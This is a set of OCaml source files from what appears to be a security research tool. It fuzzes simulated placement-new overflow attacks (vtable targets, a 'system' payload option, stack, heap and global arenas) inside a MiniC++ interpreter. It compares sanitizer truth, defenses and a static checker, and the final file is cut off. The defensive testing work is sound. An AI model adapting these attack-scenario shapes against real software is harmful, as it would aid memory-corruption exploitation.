(* -- shrinking -------------------------------------------------------- *)

(* Candidate one-step simplifications, most aggressive first. The
   minimizer keeps a candidate only when the divergence fingerprint
   survives, so these just have to be strictly "smaller": fewer members,
   smaller arrays and counts, shallower hierarchy, plainer script. *)
let drop_nth l n = List.filteri (fun i _ -> i <> n) l

let shrink_member = function
  | M_int_arr k when k > 1 -> Some (M_int_arr (k / 2))
  | M_char_arr k when k > 1 -> Some (M_char_arr (k / 2))
  | _ -> None

let shrink_candidates g =
  let cands = ref [] in
  let add c = if c <> g then cands := c :: !cands in
  (* structural drops *)
  if g.g_place_count > 1 then add { g with g_place_count = 1 };
  if g.g_depth > 1 then add { g with g_depth = 1 };
  if g.g_virtual && g.g_target <> T_vtable then add { g with g_virtual = false };
  if g.g_payload = P_system then add { g with g_payload = P_junk };
  if g.g_internal_off > 0 then add { g with g_internal_off = 0 };
  if g.g_guard then add { g with g_guard = false };
  if g.g_script <> S_fields then add { g with g_script = S_fields };
  (* member drops: keep the mandatory head int in the base *)
  List.iteri
    (fun i _ ->
      if i > 0 then add { g with g_base_members = drop_nth g.g_base_members i })
    g.g_base_members;
  List.iteri
    (fun i _ ->
      if List.length g.g_extra > 1 then
        add { g with g_extra = drop_nth g.g_extra i })
    g.g_extra;
  (* size shrinks *)
  List.iteri
    (fun i m ->
      match shrink_member m with
      | Some m' ->
        add
          {
            g with
            g_extra = List.mapi (fun j x -> if j = i then m' else x) g.g_extra;
          }
      | None -> ())
    g.g_extra;
  if g.g_loop_n > 1 then add { g with g_loop_n = g.g_loop_n / 2 };
  if g.g_loop_n > 0 then add { g with g_loop_n = 0 };
  let shrink_delta mk d =
    if d < -4 then add (mk (-4)) else if d > 4 then add (mk 4)
  in
  (match g.g_arena with
  | A_stack_buf d -> shrink_delta (fun d -> { g with g_arena = A_stack_buf d }) d
  | A_global_buf d ->
    shrink_delta (fun d -> { g with g_arena = A_global_buf d }) d
  | A_heap_buf d -> shrink_delta (fun d -> { g with g_arena = A_heap_buf d }) d
  | A_stack_obj | A_heap_obj -> ());
  List.rev !cands
