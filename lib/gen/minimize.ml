(** Greedy corpus minimization: shrink a diverging genome while the
    divergence fingerprint survives.

    Classic delta-debugging over the genome instead of the program text:
    {!Genome.shrink_candidates} proposes strictly-simpler genomes
    (fewer members, smaller arrays and counts, shallower hierarchy,
    plainer script, no re-placement); the first candidate that still
    reproduces the fingerprint becomes the new current genome and the
    walk restarts from it. The walk is deterministic and bounded by
    [budget] oracle re-runs, so minimization cannot stall a campaign. *)

let minimize ?(budget = 60) ~reproduces g =
  let spent = ref 0 in
  let rec go g =
    let rec try_cands = function
      | [] -> g
      | c :: tl ->
        if !spent >= budget then g
        else begin
          incr spent;
          if reproduces c then go c else try_cands tl
        end
    in
    if !spent >= budget then g else try_cands (Genome.shrink_candidates g)
  in
  go g
