(** The differential oracle: one generated scenario, every truth source,
    classified disagreements.

    For each genome the oracle runs the scenario (1) plain with the
    PNASan shadow map attached — the ground truth for what memory was
    actually corrupted, (2) plain again — a determinism check, (3) plain
    unsanitized — record-don't-halt means the verdict must not move,
    (4) under every {!Pna_defense.Config} — what the deployed defenses
    say, and compares all of that against (5) the static
    {!Pna_analysis.Placement_checker} prediction. Every disagreement is
    classified:

    - [Missed_detection]: the shadow map recorded a write-class
      corruption but the static checker raised no actionable
      overflow-class finding.
    - [Static_false_positive]: the checker claimed [Overflow_certain]
      but the run was spotless (no violation, no oversize placement,
      normal exit).
    - [Verdict_divergence]: two truth sources disagree about the same
      run — nondeterminism between identical runs, a sanitized run whose
      status differs from the unsanitized one, or a defense that blocked
      a scenario the shadow map calls clean.
    - [Oracle_crash]: an [Internal_error] outcome or an escaped
      exception — the simulator itself, not the program, failed.

    Divergences carry a shape-level fingerprint (not the genome id) so
    one underlying bug dedups across the thousands of genomes that
    trigger it. *)

module San = Pna_sanitizer.Sanitizer
module Driver = Pna_attacks.Driver
module Config = Pna_defense.Config
module Finding = Pna_analysis.Finding
module Checker = Pna_analysis.Placement_checker
module O = Pna_minicpp.Outcome
module Interp = Pna_minicpp.Interp
module Vm = Pna_minicpp.Vm
module Event = Pna_machine.Event
module Coverage = Pna.Coverage

type dkind =
  | Missed_detection
  | Static_false_positive
  | Verdict_divergence
  | Oracle_crash

let dkind_label = function
  | Missed_detection -> "missed-detection"
  | Static_false_positive -> "static-false-positive"
  | Verdict_divergence -> "verdict-divergence"
  | Oracle_crash -> "oracle-crash"

type divergence = { d_kind : dkind; d_fingerprint : string; d_detail : string }

type report = {
  o_id : string;
  o_genome : Genome.t;
  o_status : string;  (** plain sanitized run's status label *)
  o_verdict : bool;
  o_oversize : bool;  (** an oversize placement actually executed *)
  o_viol : (San.kind * int) list;  (** shadow-map truth, by kind *)
  o_write_viol : bool;  (** some write-class corruption was recorded *)
  o_findings : Finding.kind list;  (** actionable static findings *)
  o_defense : (string * string) list;  (** config name -> status label *)
  o_features : string list;  (** coverage-feedback features *)
  o_divergences : divergence list;
  o_escaped : bool;  (** a raw exception escaped: unclassified crash *)
}

let status_label = function
  | O.Exited _ -> "exited"
  | O.Arc_injection _ -> "arc-inj"
  | O.Code_injection _ -> "code-inj"
  | O.Crashed _ -> "crashed"
  | O.Stack_smashing_detected -> "canary"
  | O.Defense_blocked _ -> "blocked"
  | O.Timeout _ -> "timeout"
  | O.Out_of_memory -> "oom"
  | O.Internal_error _ -> "internal-error"
  | O.Recovered _ -> "recovered"

let write_kind = function
  | San.Placement_overflow | San.Stack_smash | San.Heap_overflow
  | San.Meta_write ->
    true
  | San.Use_after_free | San.Stale_read -> false

let overflow_finding = function
  | Finding.Overflow_certain | Finding.Overflow_possible
  | Finding.Tainted_size | Finding.Copy_overflow ->
    true
  | _ -> false

let count_by_kind (vs : San.violation list) =
  List.fold_left
    (fun acc v ->
      let k = v.San.v_kind in
      match List.assoc_opt k acc with
      | Some n -> (k, n + 1) :: List.remove_assoc k acc
      | None -> (k, 1) :: acc)
    [] vs
  |> List.sort compare

let oversize_of (o : O.t) =
  List.exists
    (function
      | Event.Placement { size; arena = Some a; _ } -> size > a
      | _ -> false)
    o.O.events

(* shape-level key: one simulator/analyzer bug fingerprints the same
   across every genome that happens to trigger it *)
let shape_key (g : Genome.t) =
  Fmt.str "%s/%s/%s%s%s"
    (Genome.arena_label
       (match g.Genome.g_arena with
       | Genome.A_stack_buf _ -> Genome.A_stack_buf 0
       | Genome.A_global_buf _ -> Genome.A_global_buf 0
       | Genome.A_heap_buf _ -> Genome.A_heap_buf 0
       | a -> a))
    (Genome.target_label g.Genome.g_target)
    (Genome.script_label g.Genome.g_script)
    (if g.Genome.g_internal_off > 0 then "/internal" else "")
    (if g.Genome.g_guard then "/guarded" else "")

let default_max_steps = 60_000

let run ?(configs = Config.all) ?(max_steps = default_max_steps)
    ?(engine = Driver.env_engine) g =
  let id = Genome.id g in
  let program = Build.program_of g in
  let scenario = Build.scenario g in
  let divs = ref [] in
  let escaped = ref false in
  let add kind fp detail =
    divs := { d_kind = kind; d_fingerprint = fp; d_detail = detail } :: !divs
  in
  let crash_of label status =
    match status with
    | O.Internal_error m ->
      add Oracle_crash
        (Fmt.str "crash|%s|%s" label (shape_key g))
        (Fmt.str "%s run hit Internal_error: %s" label m)
    | _ -> ()
  in
  (* a Driver.run that can never take the campaign down: an escaped
     exception IS the finding (an unclassified oracle crash) *)
  let guarded label f =
    try Some (f ()) with
    | exn ->
      escaped := true;
      add Oracle_crash
        (Fmt.str "crash|escaped|%s|%s" label (Printexc.to_string exn))
        (Fmt.str "%s run escaped with %s" label (Printexc.to_string exn));
      None
  in
  let plain =
    guarded "sanitized" (fun () ->
        Driver.run ~max_steps ~sanitize:true ~engine scenario)
  in
  let again =
    guarded "repeat" (fun () ->
        Driver.run ~max_steps ~sanitize:true ~engine scenario)
  in
  let bare =
    guarded "unsanitized" (fun () ->
        Driver.run ~max_steps ~sanitize:false ~engine scenario)
  in
  let status, verdict, oversize, viol =
    match plain with
    | None -> ("escaped", false, false, [])
    | Some r ->
      crash_of "sanitized" r.Driver.outcome.O.status;
      ( status_label r.Driver.outcome.O.status,
        r.Driver.verdict.Pna_attacks.Catalog.success,
        oversize_of r.Driver.outcome,
        count_by_kind r.Driver.violations )
  in
  (match (plain, again) with
  | Some a, Some b ->
    if
      status_label a.Driver.outcome.O.status
      <> status_label b.Driver.outcome.O.status
      || a.Driver.verdict.Pna_attacks.Catalog.success
         <> b.Driver.verdict.Pna_attacks.Catalog.success
    then
      add Verdict_divergence
        (Fmt.str "verdict|nondet|%s" (shape_key g))
        (Fmt.str "identical runs disagreed: %s vs %s"
           (status_label a.Driver.outcome.O.status)
           (status_label b.Driver.outcome.O.status))
  | _ -> ());
  (match (plain, bare) with
  | Some a, Some b ->
    crash_of "unsanitized" b.Driver.outcome.O.status;
    if
      status_label a.Driver.outcome.O.status
      <> status_label b.Driver.outcome.O.status
    then
      add Verdict_divergence
        (Fmt.str "verdict|sanitizer|%s|%s->%s" (shape_key g)
           (status_label b.Driver.outcome.O.status)
           (status_label a.Driver.outcome.O.status))
        (Fmt.str
           "sanitizer perturbed the run: unsanitized %s, sanitized %s"
           (status_label b.Driver.outcome.O.status)
           (status_label a.Driver.outcome.O.status))
  | _ -> ());
  let write_viol = List.exists (fun (k, _) -> write_kind k) viol in
  (* defenses *)
  let defense =
    List.filter_map
      (fun (c : Config.t) ->
        match
          guarded
            (Fmt.str "defense:%s" c.Config.name)
            (fun () -> Driver.run ~config:c ~max_steps ~sanitize:false ~engine scenario)
        with
        | None -> None
        | Some r ->
          crash_of (Fmt.str "defense:%s" c.Config.name) r.Driver.outcome.O.status;
          let label = status_label r.Driver.outcome.O.status in
          if O.blocked r.Driver.outcome && (not write_viol) && not oversize
          then
            add Verdict_divergence
              (Fmt.str "verdict|defense|%s|%s" c.Config.name (shape_key g))
              (Fmt.str "%s blocked a scenario the shadow map calls clean (%s)"
                 c.Config.name label);
          Some (c.Config.name, label))
      configs
  in
  (* static prediction *)
  let findings =
    match
      guarded "analyze" (fun () ->
          List.filter Finding.actionable (Checker.analyze ~interproc:true program))
    with
    | None -> []
    | Some fs -> List.sort_uniq compare (List.map (fun f -> f.Finding.kind) fs)
  in
  let has_overflow_finding = List.exists overflow_finding findings in
  if write_viol && not has_overflow_finding then
    add Missed_detection
      (Fmt.str "missed|%s|%s" (shape_key g)
         (String.concat "," (List.map (fun (k, _) -> San.kind_name k) viol)))
      (Fmt.str "shadow map recorded [%s] but the checker raised no actionable overflow finding"
         (String.concat "; "
            (List.map
               (fun (k, n) -> Fmt.str "%s x%d" (San.kind_name k) n)
               viol)));
  if
    List.mem Finding.Overflow_certain findings
    && viol = [] && (not oversize) && status = "exited"
  then
    add Static_false_positive
      (Fmt.str "static-fp|%s" (shape_key g))
      "checker claims Overflow_certain but the run was spotless";
  (* coverage features for the campaign's novelty filter *)
  let features =
    let bm, hook = Coverage.bitmap program in
    (* the coverage replay runs on the same engine as the verdict runs:
       the VM fires [on_stmt] for exactly the statements the interpreter
       executes, so the bitmap is engine-independent (E19) *)
    (match
       guarded "coverage" (fun () ->
           match engine with
           | `Interp ->
             Interp.execute ~max_steps ~config:Config.none
               ~input_ints:(Build.input_ints g None)
               ~on_stmt:hook program
           | `Bytecode ->
             Vm.execute ~max_steps ~config:Config.none
               ~input_ints:(Build.input_ints g None)
               ~on_stmt:hook program)
     with
    | _ -> ());
    List.concat
      [
        [ Fmt.str "status:%s" status ];
        (if oversize then [ "oversize" ] else []);
        (if verdict then [ "verdict:success" ] else []);
        List.map (fun (k, _) -> Fmt.str "viol:%s" (San.kind_name k)) viol;
        List.map (fun k -> Fmt.str "find:%s" (Finding.kind_name k)) findings;
        List.map (fun (c, l) -> Fmt.str "def:%s:%s" c l) defense;
        List.map (fun i -> Fmt.str "site:%s" (Coverage.site_label bm i))
          (Coverage.hit_sites bm);
      ]
  in
  {
    o_id = id;
    o_genome = g;
    o_status = status;
    o_verdict = verdict;
    o_oversize = oversize;
    o_viol = viol;
    o_write_viol = write_viol;
    o_findings = findings;
    o_defense = defense;
    o_features = features;
    o_divergences = List.rev !divs;
    o_escaped = !escaped;
  }

let pp_divergence ppf d =
  Fmt.pf ppf "%-22s %s" (dkind_label d.d_kind) d.d_detail
