(** E17 — the generative-corpus gate.

    Two independent campaigns from the same seed must agree to the byte
    (corpus determinism), no oracle crash may go unclassified (an
    escaped exception fails the gate; an [Internal_error] outcome is
    classified and ships as a divergence repro), and every surviving
    divergence fingerprint must re-reproduce from its minimized genome —
    that minimized genome is the replayable artifact CI uploads. The
    gate's report carries either a concrete checker misclassification
    found by the generator or the measured per-rule precision/recall
    table (usually both). *)

type repro = { rp_div : Fuzz.divergence; rp_ok : bool }

type t = {
  e_seed : int;
  e_n : int;
  e_stats : Fuzz.stats;
  e_corpus : string;  (** encoded corpus bytes of the first campaign *)
  e_deterministic : bool;
  e_repros : repro list;
  e_misclassification : string option;
  e_ok : bool;
}

let misclassification (s : Fuzz.stats) =
  List.find_map
    (fun (d : Fuzz.divergence) ->
      match d.Fuzz.c_kind with
      | Oracle.Missed_detection | Oracle.Static_false_positive ->
        Some
          (Fmt.str "%s [%s, minimized to %s]" d.Fuzz.c_detail
             (Genome.summary d.Fuzz.c_minimized)
             (Genome.id d.Fuzz.c_minimized))
      | Oracle.Verdict_divergence | Oracle.Oracle_crash -> None)
    s.Fuzz.f_divergences

let run ?(seed = 42) ?(n = 1000) ?max_steps () =
  let s1 = Fuzz.campaign ~n ?max_steps ~seed () in
  let s2 = Fuzz.campaign ~n ?max_steps ~seed () in
  let c1 = Corpus.to_string s1.Fuzz.f_corpus in
  let c2 = Corpus.to_string s2.Fuzz.f_corpus in
  let deterministic = String.equal c1 c2 in
  let repros =
    List.map
      (fun (d : Fuzz.divergence) ->
        let rep = Oracle.run ?max_steps d.Fuzz.c_minimized in
        {
          rp_div = d;
          rp_ok =
            List.exists
              (fun (d' : Oracle.divergence) ->
                d'.Oracle.d_fingerprint = d.Fuzz.c_fingerprint)
              rep.Oracle.o_divergences;
        })
      s1.Fuzz.f_divergences
  in
  let all_repro = List.for_all (fun r -> r.rp_ok) repros in
  {
    e_seed = seed;
    e_n = n;
    e_stats = s1;
    e_corpus = c1;
    e_deterministic = deterministic;
    e_repros = repros;
    e_misclassification = misclassification s1;
    e_ok =
      s1.Fuzz.f_generated + s1.Fuzz.f_duplicates >= n
      && deterministic
      && s1.Fuzz.f_escaped = 0
      && all_repro;
  }

let pp ppf t =
  let s = t.e_stats in
  Fmt.pf ppf
    "@[<v>E17 — generative corpus with a differential oracle@,\
     %a@,\
     corpus bytes: %d, byte-identical across two seeded runs: %b@,"
    Fuzz.pp s (String.length t.e_corpus) t.e_deterministic;
  (match t.e_repros with
  | [] -> Fmt.pf ppf "no divergences survived — nothing to minimize@,"
  | rs ->
    Fmt.pf ppf "minimized repros (%d):@," (List.length rs);
    List.iter
      (fun r ->
        Fmt.pf ppf "  [%s] %s@,      %s -> %s (%d hit(s)) %s@,"
          (Oracle.dkind_label r.rp_div.Fuzz.c_kind)
          r.rp_div.Fuzz.c_detail
          (Genome.id r.rp_div.Fuzz.c_genome)
          (Genome.id r.rp_div.Fuzz.c_minimized)
          r.rp_div.Fuzz.c_hits
          (if r.rp_ok then "[reproduces]" else "[DOES NOT REPRODUCE]"))
      rs);
  (match t.e_misclassification with
  | Some m -> Fmt.pf ppf "checker misclassification found: %s@," m
  | None ->
    Fmt.pf ppf
      "no checker misclassification surfaced; precision/recall above is the \
       report@,");
  Fmt.pf ppf "=> %s@]" (if t.e_ok then "OK" else "FAILED")
