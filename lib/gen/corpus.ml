(** Corpus persistence: a genome list as one self-checking binary file.

    Layout: 8-byte magic, u32 genome count, then per genome a u32 length
    prefix and the {!Genome} codec bytes, then a trailing FNV-1a word
    over everything before it. Loading is total — truncation, a bad
    checksum or a malformed genome is an [Error], never an exception —
    because corpus files round-trip through CI artifacts and human
    hands. Writing the same genomes always produces the same bytes; the
    E17 gate diffs two independently generated corpora for equality. *)

module Wire = Pna_serial.Wire

let magic = "PNAGENC1"

let fnv1a s =
  let h = ref 0x811c9dc5 in
  String.iter
    (fun c -> h := (!h lxor Char.code c) * 0x01000193 land 0xffffffff)
    s;
  !h

let to_string (genomes : Genome.t list) =
  let b = Buffer.create 4096 in
  Buffer.add_string b magic;
  Buffer.add_string b (Wire.le32 (List.length genomes));
  List.iter
    (fun g ->
      let s = Genome.encode g in
      Buffer.add_string b (Wire.le32 (String.length s));
      Buffer.add_string b s)
    genomes;
  let body = Buffer.contents b in
  body ^ Wire.le32 (fnv1a body)

let of_string s =
  let len = String.length s in
  let err fmt = Fmt.kstr (fun m -> Error m) fmt in
  if len < String.length magic + 8 then err "corpus too short (%d bytes)" len
  else if String.sub s 0 (String.length magic) <> magic then
    err "bad corpus magic"
  else begin
    let body = String.sub s 0 (len - 4) in
    let stored = Wire.rd32 s (len - 4) in
    if fnv1a body <> stored then err "corpus checksum mismatch"
    else begin
      let pos = ref (String.length magic) in
      let rd32 () =
        let v = Wire.rd32 s !pos in
        pos := !pos + 4;
        v
      in
      let count = rd32 () in
      if count > 1_000_000 then err "implausible corpus count %d" count
      else begin
        let rec read k acc =
          if k = 0 then Ok (List.rev acc)
          else if !pos + 4 > len - 4 then
            err "truncated corpus: %d of %d genomes" (count - k) count
          else begin
            let glen = rd32 () in
            if glen > len - 4 - !pos then
              err "genome %d overruns the corpus" (count - k)
            else begin
              let gs = String.sub s !pos glen in
              pos := !pos + glen;
              match Genome.decode gs with
              | Ok g -> read (k - 1) (g :: acc)
              | Error m -> err "genome %d: %s" (count - k) m
            end
          end
        in
        match read count [] with
        | Ok gs when !pos <> len - 4 ->
          ignore gs;
          err "%d trailing bytes in corpus" (len - 4 - !pos)
        | r -> r
      end
    end
  end

let save path genomes =
  let oc = open_out_bin path in
  Fun.protect
    ~finally:(fun () -> close_out_noerr oc)
    (fun () -> output_string oc (to_string genomes))

let load path =
  match
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))
  with
  | s -> of_string s
  | exception Sys_error m -> Error m
  | exception End_of_file -> Error "corpus truncated while reading"
