(** The fuzz campaign: seeded genome stream → differential oracle →
    coverage-filtered corpus + deduplicated, minimized divergences +
    per-rule precision/recall for the static checker.

    Everything is a pure function of the seed: the genome stream comes
    from the shared SplitMix64 RNG, the oracle is deterministic, and
    minimization walks candidates in a fixed order — so two campaigns
    with the same seed produce byte-identical corpora (the E17
    determinism gate) and every shipped repro replays. *)

module R = Pna_rand.Rand
module Finding = Pna_analysis.Finding
module Metrics = Pna_telemetry.Metrics
module Clock = Pna_telemetry.Clock

(* -- static-checker scoring ------------------------------------------- *)

(* Scored per scenario against the shadow-map truth: a rule "fires" when
   an actionable finding of that kind exists, and the scenario is "hot"
   when the sanitizer recorded a write-class corruption. Recall is only
   meaningful for the union (any overflow-class rule vs hot), but the
   per-rule split shows which rules earn their precision. *)
type rule = {
  r_kind : Finding.kind;
  mutable r_tp : int;
  mutable r_fp : int;
  mutable r_fn : int;  (** hot scenarios this rule (alone) did not flag *)
}

let rule_kinds =
  [
    Finding.Overflow_certain;
    Finding.Overflow_possible;
    Finding.Tainted_size;
    Finding.Copy_overflow;
  ]

let precision r =
  if r.r_tp + r.r_fp = 0 then 1.0
  else float_of_int r.r_tp /. float_of_int (r.r_tp + r.r_fp)

let recall r =
  if r.r_tp + r.r_fn = 0 then 1.0
  else float_of_int r.r_tp /. float_of_int (r.r_tp + r.r_fn)

type divergence = {
  c_fingerprint : string;
  c_kind : Oracle.dkind;
  c_detail : string;
  c_genome : Genome.t;  (** first genome that triggered it *)
  c_minimized : Genome.t;
  c_hits : int;  (** genomes that mapped to this fingerprint *)
}

type stats = {
  f_seed : int;
  f_requested : int;
  f_generated : int;  (** distinct genomes actually run (duplicates skipped) *)
  f_duplicates : int;
  f_kept : int;
  f_corpus : Genome.t list;  (** coverage-novel genomes, generation order *)
  f_hot : int;  (** scenarios with a write-class shadow violation *)
  f_benign : int;
  f_oversize : int;
  f_escaped : int;  (** raw escaped exceptions — must be 0 *)
  f_statuses : (string * int) list;
  f_divergences : divergence list;  (** deduplicated by fingerprint *)
  f_union_tp : int;
  f_union_fp : int;
  f_union_fn : int;
  f_union_tn : int;
  f_rules : rule list;
  f_oracle_runs : int;  (** including minimization re-runs *)
}

let union_precision s =
  if s.f_union_tp + s.f_union_fp = 0 then 1.0
  else float_of_int s.f_union_tp /. float_of_int (s.f_union_tp + s.f_union_fp)

let union_recall s =
  if s.f_union_tp + s.f_union_fn = 0 then 1.0
  else float_of_int s.f_union_tp /. float_of_int (s.f_union_tp + s.f_union_fn)

(* Live campaign instruments in the process-wide registry, so a scrape
   (or `pna top` against a serving process) sees fuzz progress without
   touching the deterministic result. Lazy: a process that never fuzzes
   registers nothing. *)
let m_genomes =
  lazy (Metrics.counter Metrics.default "pna_fuzz_genomes_total")

let m_kept = lazy (Metrics.counter Metrics.default "pna_fuzz_kept_total")

let m_frontier =
  lazy (Metrics.gauge Metrics.default "pna_fuzz_frontier_features")

let m_rate = lazy (Metrics.gauge Metrics.default "pna_fuzz_genomes_per_s")

let m_divergence kind =
  Metrics.counter
    ~labels:[ ("class", Oracle.dkind_label kind) ]
    Metrics.default "pna_fuzz_divergences_total"

let campaign ?(n = 1000) ?(minimize_budget = 40) ?max_steps
    ?(progress_every = 0) ~seed () =
  let rng = R.create (seed lxor 0x9e47f3) in
  let t0 = Clock.now_ns () in
  let seen_ids : (string, unit) Hashtbl.t = Hashtbl.create (2 * n) in
  let seen_features : (string, unit) Hashtbl.t = Hashtbl.create 4096 in
  let divmap : (string, divergence) Hashtbl.t = Hashtbl.create 64 in
  let div_order = ref [] in
  let statuses : (string, int) Hashtbl.t = Hashtbl.create 16 in
  let rules = List.map (fun k -> { r_kind = k; r_tp = 0; r_fp = 0; r_fn = 0 }) rule_kinds in
  let corpus = ref [] in
  let oracle_runs = ref 0 in
  let run_oracle g =
    incr oracle_runs;
    Oracle.run ?max_steps g
  in
  let generated = ref 0
  and duplicates = ref 0
  and kept = ref 0
  and hot = ref 0
  and benign = ref 0
  and oversize = ref 0
  and escaped = ref 0 in
  let utp = ref 0 and ufp = ref 0 and ufn = ref 0 and utn = ref 0 in
  (* Progress is a pure function of seed-deterministic counters — no
     timestamps — so two campaigns with the same seed print identical
     lines (and E17 runs with it off either way). *)
  let progress attempted =
    Metrics.set (Lazy.force m_rate)
      (float_of_int attempted
      /. Float.max 1e-9 (Clock.elapsed_s ~a:t0 ~b:(Clock.now_ns ())));
    if progress_every > 0 && attempted mod progress_every = 0 then
      Fmt.epr "fuzz: %d/%d genomes  %d kept  frontier %d  %d divergence(s)@."
        attempted n !kept
        (Hashtbl.length seen_features)
        (Hashtbl.length divmap)
  in
  for i = 1 to n do
    let g = Genome.generate rng in
    Metrics.incr (Lazy.force m_genomes);
    let id = Genome.id g in
    if Hashtbl.mem seen_ids id then incr duplicates
    else begin
      Hashtbl.add seen_ids id ();
      incr generated;
      let rep = run_oracle g in
      if rep.Oracle.o_escaped then incr escaped;
      Hashtbl.replace statuses rep.Oracle.o_status
        (1 + Option.value ~default:0 (Hashtbl.find_opt statuses rep.Oracle.o_status));
      if rep.Oracle.o_oversize then incr oversize;
      (* score the checker *)
      let is_hot = rep.Oracle.o_write_viol in
      if is_hot then incr hot else incr benign;
      let fired k = List.mem k rep.Oracle.o_findings in
      List.iter
        (fun r ->
          match (fired r.r_kind, is_hot) with
          | true, true -> r.r_tp <- r.r_tp + 1
          | true, false -> r.r_fp <- r.r_fp + 1
          | false, true -> r.r_fn <- r.r_fn + 1
          | false, false -> ())
        rules;
      let union_fired = List.exists (fun r -> fired r.r_kind) rules in
      (match (union_fired, is_hot) with
      | true, true -> incr utp
      | true, false -> incr ufp
      | false, true -> incr ufn
      | false, false -> incr utn);
      (* coverage-feedback filter: keep only novelty *)
      let novel =
        List.exists (fun f -> not (Hashtbl.mem seen_features f)) rep.Oracle.o_features
      in
      if novel then begin
        List.iter (fun f -> Hashtbl.replace seen_features f ()) rep.Oracle.o_features;
        incr kept;
        Metrics.incr (Lazy.force m_kept);
        Metrics.set (Lazy.force m_frontier)
          (float_of_int (Hashtbl.length seen_features));
        corpus := g :: !corpus
      end;
      (* dedup + minimize divergences *)
      List.iter
        (fun (d : Oracle.divergence) ->
          Metrics.incr (m_divergence d.Oracle.d_kind);
          match Hashtbl.find_opt divmap d.Oracle.d_fingerprint with
          | Some c ->
            Hashtbl.replace divmap d.Oracle.d_fingerprint
              { c with c_hits = c.c_hits + 1 }
          | None ->
            let reproduces cand =
              List.exists
                (fun (d' : Oracle.divergence) ->
                  d'.Oracle.d_fingerprint = d.Oracle.d_fingerprint)
                (run_oracle cand).Oracle.o_divergences
            in
            let minimized =
              Minimize.minimize ~budget:minimize_budget ~reproduces g
            in
            Hashtbl.add divmap d.Oracle.d_fingerprint
              {
                c_fingerprint = d.Oracle.d_fingerprint;
                c_kind = d.Oracle.d_kind;
                c_detail = d.Oracle.d_detail;
                c_genome = g;
                c_minimized = minimized;
                c_hits = 1;
              };
            div_order := d.Oracle.d_fingerprint :: !div_order)
        rep.Oracle.o_divergences
    end;
    progress i
  done;
  {
    f_seed = seed;
    f_requested = n;
    f_generated = !generated;
    f_duplicates = !duplicates;
    f_kept = !kept;
    f_corpus = List.rev !corpus;
    f_hot = !hot;
    f_benign = !benign;
    f_oversize = !oversize;
    f_escaped = !escaped;
    f_statuses =
      Hashtbl.fold (fun k v l -> (k, v) :: l) statuses [] |> List.sort compare;
    f_divergences =
      List.rev_map (fun fp -> Hashtbl.find divmap fp) !div_order;
    f_union_tp = !utp;
    f_union_fp = !ufp;
    f_union_fn = !ufn;
    f_union_tn = !utn;
    f_rules = rules;
    f_oracle_runs = !oracle_runs;
  }

let pp_rules ppf s =
  Fmt.pf ppf "@[<v>%-18s %5s %5s %5s %10s %8s@," "rule" "tp" "fp" "fn"
    "precision" "recall";
  List.iter
    (fun r ->
      Fmt.pf ppf "%-18s %5d %5d %5d %10.3f %8.3f@,"
        (Finding.kind_name r.r_kind) r.r_tp r.r_fp r.r_fn (precision r)
        (recall r))
    s.f_rules;
  Fmt.pf ppf "%-18s %5d %5d %5d %10.3f %8.3f@]" "any-overflow-rule"
    s.f_union_tp s.f_union_fp s.f_union_fn (union_precision s)
    (union_recall s)

let pp ppf s =
  Fmt.pf ppf
    "@[<v>seed %d: %d requested, %d distinct run (%d duplicate), %d kept \
     (coverage-novel)@,\
     truth: %d hot / %d benign / %d oversize placements; statuses: %a@,\
     %d divergence fingerprint(s), %d escaped exception(s), %d oracle runs@,\
     %a@]"
    s.f_seed s.f_requested s.f_generated s.f_duplicates s.f_kept s.f_hot
    s.f_benign s.f_oversize
    Fmt.(list ~sep:(any ", ") (pair ~sep:(any ":") string int))
    s.f_statuses
    (List.length s.f_divergences)
    s.f_escaped s.f_oracle_runs pp_rules s
