(** Genome → runnable catalogue entry.

    The builder lowers a {!Genome.t} to a MiniC++ program in the house
    style of the hand-transcribed listings: victims are declared before
    the arena (earlier stack locals sit at higher addresses, so an
    overflow out of the arena climbs into them — the L16 idiom), the
    attacker's script writes through the placed derived pointer, and the
    last statements copy whatever the attack targeted into globals so
    corruption stays observable after the frame dies. *)

open Pna_minicpp.Dsl
module G = Genome
module C = Pna_attacks.Catalog
module Class_def = Pna_layout.Class_def
module Layout = Pna_layout.Layout
module Ctype = Pna_layout.Ctype
module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module O = Pna_minicpp.Outcome

let base_name = "GBase"
let mid_name = "GMid"
let deriv_name = "GDeriv"

let member_ty = function
  | G.M_int -> int
  | G.M_double -> double
  | G.M_int_arr k -> int_arr k
  | G.M_char_arr k -> char_arr k

let named prefix ms = List.mapi (fun i m -> (Fmt.str "%s%d" prefix i, m)) ms

(* -- classes ---------------------------------------------------------- *)

let classes (g : G.t) =
  let fields prefix ms =
    List.map (fun (n, m) -> (n, member_ty m)) (named prefix ms)
  in
  let base =
    Class_def.v base_name
      ~methods:
        (if g.G.g_virtual then
           [ Class_def.virtual_method ~impl:(base_name ^ "::probe") "probe" ]
         else [])
      (fields "bm" g.G.g_base_members)
  in
  let mid =
    Class_def.v mid_name ~bases:[ base_name ] [ ("mm0", int) ]
  in
  let deriv_base = if g.G.g_depth >= 2 then mid_name else base_name in
  let deriv =
    Class_def.v deriv_name ~bases:[ deriv_base ]
      ~methods:
        (if g.G.g_virtual then
           [ Class_def.virtual_method ~impl:(deriv_name ^ "::probe") "probe" ]
         else [])
      (fields "em" g.G.g_extra)
  in
  if g.G.g_depth >= 2 then [ base; mid; deriv ] else [ base; deriv ]

let sizes (g : G.t) =
  let env = Layout.create_env () in
  List.iter (Layout.define env) (classes g);
  ( Layout.sizeof env (Ctype.Class base_name),
    Layout.sizeof env (Ctype.Class deriv_name) )

(* -- geometry --------------------------------------------------------- *)

(* buffer length for the delta-coded arenas *)
let buf_len deriv_size delta = max 8 (deriv_size + delta)

(* arena bytes actually available past the placement point *)
let avail (g : G.t) =
  let base_size, deriv_size = sizes g in
  match g.G.g_arena with
  | G.A_stack_obj | G.A_heap_obj -> base_size
  | G.A_stack_buf d | G.A_global_buf d | G.A_heap_buf d ->
    max 1 (buf_len deriv_size d - g.G.g_internal_off)

(* -- support functions ------------------------------------------------ *)

let zero_member this (name, m) =
  match m with
  | G.M_int -> [ set (arrow (v this) name) (i 0) ]
  | G.M_double -> [ set (arrow (v this) name) (fl 0.0) ]
  | G.M_int_arr _ | G.M_char_arr _ ->
    [ set (idx (arrow (v this) name) (i 0)) (i 0) ]

let support_funcs (g : G.t) =
  let this c = ("this", ptr (cls c)) in
